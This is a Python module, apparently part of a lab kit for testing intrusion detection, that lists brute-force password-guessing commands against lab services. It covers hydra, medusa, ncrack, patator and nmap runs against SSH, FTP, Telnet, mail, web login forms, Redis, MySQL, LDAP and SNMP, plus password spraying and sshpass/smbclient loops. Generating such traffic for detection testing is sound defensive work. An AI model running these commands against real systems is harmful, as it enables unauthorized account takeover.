"""Guessing of passwords."""

from __future__ import annotations

from idskit.lab.activity import Activity, attack

_ROOT = "-l root -P {folder}/words.txt"
_FORM = '"/login:user=^USER^&password=^PASS^:wrong password"'


def _hydra(
    target: str, server: str, who: str = _ROOT, name: str = "", seconds: int = 30
) -> Activity:
    command = f"hydra -I -t 4 {who} -f {target}"
    return attack(f"hydra-{name or server}", "brute-force", command, server, seconds=seconds)


def _guess(name: str, command: str, server: str, seconds: int = 40) -> Activity:
    needs = ("sshpass", "ssh") if command.startswith("sh ") else ()
    return attack(name, "brute-force", command, server, needs=needs, seconds=seconds)


GUESSING = (
    _hydra("ssh://{server}", "ssh", seconds=40),
    _hydra("-6 ssh://[fd77::1]", "ssh", name="ipv6", seconds=40),
    _hydra("ftp://{server}", "ftp", seconds=40),
    _hydra("telnet://{server}", "telnet"),
    _hydra("smtp://{server}", "smtp"),
    _hydra("imap://{server}", "imap"),
    _hydra("pop3://{server}", "pop3"),
    _hydra("-s 8080 http-get://{server}/admin", "shop", name="http-basic"),
    _hydra(f"-s 8080 {{server}} http-post-form {_FORM}", "shop", name="http-form"),
    _hydra("redis://{server}", "redis", "-P {folder}/words.txt"),
    _hydra("mysql://{server}", "mariadb", "-l operator -P {folder}/words.txt"),
    _hydra("ldap2://{server}", "ldap", "-l cn=admin,dc=lab -P {folder}/words.txt"),
    _hydra("snmp://{gateway}", "snmp", "-P {folder}/words.txt"),
    _hydra(
        "ssh://{server}",
        "ssh",
        "-L {folder}/many.txt -p summer2026",
        name="spray-ssh",
    ),
    _hydra(
        "-W 3 ssh://{server}",
        "ssh",
        "-t 1 -l root -P {folder}/few.txt",
        name="slow-ssh",
        seconds=60,
    ),
    _guess("medusa-ssh", "medusa -h {server} -u admin -P {folder}/words.txt -M ssh -t 2", "ssh"),
    _guess("medusa-ftp", "medusa -h {server} -u admin -P {folder}/few.txt -M ftp -t 2", "ftp"),
    _guess("medusa-telnet", "medusa -h {server} -u root -P {folder}/few.txt -M telnet", "telnet"),
    _guess("ncrack-ssh", "ncrack -u pi -P {folder}/words.txt ssh://{server}", "ssh"),
    _guess("ncrack-ftp", "ncrack -u pi -P {folder}/few.txt ftp://{server}", "ftp"),
    _guess("ncrack-telnet", "ncrack -u pi -P {folder}/few.txt telnet://{server}", "telnet"),
    _guess(
        "patator-ssh",
        "patator ssh_login host={server} user=root password=FILE0 0={folder}/few.txt -t 3",
        "ssh",
    ),
    _guess(
        "patator-ftp",
        "patator ftp_login host={server} user=root password=FILE0 0={folder}/few.txt -t 3",
        "ftp",
    ),
    _guess(
        "sshpass-loop",
        "sh -c 'for n in $(seq {count}); do sshpass -p admin$n ssh {ssh} "
        "-o PubkeyAuthentication=no root@{server} true; done'",
        "ssh",
    ),
    _guess(
        "nmap-guess-ftp",
        "nmap -n -Pn -p 21 --script ftp-brute --script-args "
        "userdb={folder}/users.txt,passdb={folder}/few.txt {server}",
        "ftp",
    ),
    attack(
        "smbclient-loop",
        "brute-force",
        "sh -c 'for n in $(seq {count}); do smbclient -U root%admin$n //{server}/site -c ls; done'",
        "smb",
        needs=("smbclient",),
    ),
    _guess("guess-mqtt-slow", "{play} guess-mqtt {server} 12 4", "mqtt-locked", seconds=60),
    _guess("guess-mqtt", "{play} guess-mqtt {server} {count} {pause}", "mqtt-locked"),
    _guess("guess-web", "{play} guess-web {server} {count} {pause}", "shop"),
    _guess("stuff-web", "{play} stuff-web {server} {count} {pause}", "shop"),
    _guess("guess-telnet", "{play} guess-telnet {server} {count} {pause}", "telnet"),
    _guess("guess-sip", "{play} guess-sip {server} {count} {pause}", "sip"),
)
